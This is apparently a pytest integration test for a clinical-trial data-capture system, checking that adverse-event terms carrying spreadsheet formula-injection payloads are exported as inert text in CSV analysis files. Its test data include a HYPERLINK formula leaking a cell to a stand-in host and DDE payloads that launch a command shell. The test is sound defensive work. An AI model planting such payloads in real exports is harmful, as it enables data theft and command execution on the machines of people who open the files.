"""Formula-safe spreadsheet files from the EDC (issue 14, finding 4): an AE term planted in each OWASP form
(``=``, ``+``, ``-``, ``@``, tab; a carriage return is refused at entry) leaves the analysis-data export
(identifiable and de-identified) as text no spreadsheet runs, and the analysis-data reader reads the stored term
back."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path

import pytest
from django.test import Client

from mescams.core.spreadsheet import FORMULA_TRIGGERS
from mescams.edc.crfs.models import AdverseEvent
from mescams.edc.crfs.services import save_form
from mescams.errors import InputValidationError
from mescams.protocols import default_protocol
from mescams.stats.analysis_data import read_analysis_data
from tests.factories.edc import RANDOMISATION, infuse, randomised
from tests.integration.edc.test_validation_rules import GOOD

PLANTED = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "'=quoted already"]
CONTROL = ["\r=1+1"]  # refused at entry (one-line field); the writer's guard for it is tested on a snapshot (unit)


def spreadsheet_would_run(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return text.startswith(FORMULA_TRIGGERS)
    return False


def _folder(response, into: Path) -> Path:
    assert response.status_code == 200, response.content[:300]
    with zipfile.ZipFile(io.BytesIO(response.content)) as zf:
        zf.extractall(into)
    return into / "analysis-data"


def _cells(folder: Path) -> list[str]:
    cells = []
    for path in sorted(folder.glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as fh:
            cells += [c for row in csv.reader(fh) for c in row]
    return cells


@pytest.mark.parametrize("edc", ["sqlite", "postgresql"], indirect=True)
def test_planted_formulas_leave_every_analysis_data_file_as_text(users, allocation, tmp_path: Path) -> None:
    coord = users["coord"]
    pid = randomised(coord)
    save_form(user=coord, participant_id=pid, form="demographics", values=GOOD["demographics"])
    infuse(coord, pid)
    save_form(user=users["rater"], participant_id=pid, form="edss",
              values={**GOOD["edss"], "visit_code": "W0", "assessment_date": RANDOMISATION})
    for n, term in enumerate(PLANTED):
        save_form(user=coord, participant_id=pid, form="adverse_event",
                  values={"term": term, "onset_date": RANDOMISATION + dt.timedelta(days=n + 1), "severity_grade": 1})
    for term in CONTROL:
        with pytest.raises(InputValidationError):
            save_form(user=coord, participant_id=pid, form="adverse_event",
                      values={"term": term, "onset_date": RANDOMISATION, "severity_grade": 1})
    stored = set(AdverseEvent.objects.values_list("term", flat=True))
    assert len(stored) == len(PLANTED)
    statistician, dsmb = Client(), Client()
    statistician.force_login(users["statistician"])
    dsmb.force_login(users["dsmb"])
    identifiable = _folder(statistician.get("/api/export/analysis-data",
                                            {"identifiable": "true", "reason": "formula check"}), tmp_path / "a")
    deidentified = _folder(dsmb.get("/api/export/analysis-data"), tmp_path / "b")
    for folder in (identifiable, deidentified):
        assert [c for c in _cells(folder) if spreadsheet_would_run(c)] == []
    assert set(read_analysis_data(identifiable, default_protocol()).adverse_events["term"]) == stored
    assert len(read_analysis_data(deidentified, default_protocol()).adverse_events) == len(PLANTED)
